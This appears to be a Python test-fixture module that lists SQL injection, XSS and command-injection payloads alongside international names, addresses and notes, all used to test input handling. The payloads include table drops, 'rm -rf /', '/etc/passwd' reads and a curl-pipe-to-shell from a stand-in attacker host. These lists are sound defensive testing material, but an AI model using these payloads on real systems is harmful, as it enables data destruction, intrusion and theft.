"""Attack payloads and legitimate international data used across the test suite."""

from __future__ import annotations

SQL_INJECTION = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "admin'--",
    "1; DROP TABLE clients",
    "'; DROP TABLE users; --",
    "' UNION SELECT email, password_hash FROM users --",
    "x' UNION SELECT NULL, NULL",
    "1' AND SLEEP(5)#",
    "1 OR 1=1",
    '" OR ""="',
    "' OR 'a'='a",
    "%' AND 1=0 UNION SELECT 1 --",
    "'; EXEC xp_cmdshell 'dir' --",
    "1'; WAITFOR DELAY '0:0:5' --",
    "Robert'); DROP TABLE students;--",
    "' or ''='",
    "admin' /*",
]

XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "\"><script>alert('x')</script>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    "';alert(String.fromCharCode(88,83,83))//",
    '<a href="javascript:alert(1)">x</a>',
    "<ScRiPt>alert(1)</sCrIpT>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    '<div style="background:url(javascript:alert(1))">',
    "{{constructor.constructor('alert(1)')()}}",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
]

COMMAND_INJECTION = [
    "; ls -la",
    "| cat /etc/passwd",
    "`whoami`",
    "$(id)",
    "&& rm -rf /",
    "|| ping -c 10 127.0.0.1",
    "& ping -c 3 127.0.0.1 &",
    "; curl http://evil.example/x | sh",
    "> /tmp/pwned",
    "\n/bin/ls",
    "%0Acat /etc/passwd",
    "${IFS}cat${IFS}/etc/passwd",
    "x -rf /",
]

MALICIOUS = SQL_INJECTION + XSS + COMMAND_INJECTION

INTERNATIONAL_NAMES = [
    "Siobhán O'Brien",
    "王小明",
    "José-María García",
    "Ngũgĩ wa Thiong'o",
    "Smith & Sons",
    "Zoë Saldaña",
    "Björk Guðmundsdóttir",
    "Nguyễn Thị Minh Khai",
    "Αλέξανδρος Παπαδόπουλος",
    "Владимир Иванов",
    "محمد بن سلمان",
    "שרה כהן",
    "Dr. Martin Luther King Jr.",
    "D’Angelo",
    "Ngũgĩ wa Thiong’o",
    "Anne-Marie O'Neill-Smythe",
    "Łukasz Żółć",
    "Søren Kierkegaard",
    "Thủy Nguyễn",
    "山田 太郎",
    "김민준",
    "Pádraig Ó Súilleabháin",
    "Ñandú Peña",
    "Jean-Luc Picard",
    "Union Street Lettings",
]

INTERNATIONAL_ADDRESSES = [
    "Flat 2/3, 14 O'Connell Street",
    "Straße des 17. Juni 135",
    "12 Rue de l'Église",
    "北京市朝阳区建国路88号",
    "Calle de José-María Pemán, 7",
    "Apartment #4, 221B Baker Street",
    "Ul. Marszałkowska 84/92",
    "Stoke-on-Trent",
    "King's Lynn",
    "Saint-Étienne",
    "Newcastle upon Tyne",
    "Washington, D.C.",
]

FREE_TEXT_NOTES = [
    "O'Brien prefers calls after 6pm",
    "2 < 3 bedrooms, and 5 > 4",
    "Loves the garden 🌻🏡 — asked about pets 🐕",
    "Line one\nLine two\r\nLine three\ttabbed",
    "Quote: \"it's perfect\" & she'll sign",
    "  leading and trailing spaces  ",
    "مرحبا — שלום — 你好 — नमस्ते",
    "e\u0301 (decomposed) vs é (composed)",
    "<b>not bold</b> <script>alert('stored as text')</script>",
    "'; DROP TABLE clients; --",
    "$(rm -rf /) `id` | cat /etc/passwd",
    "",
]
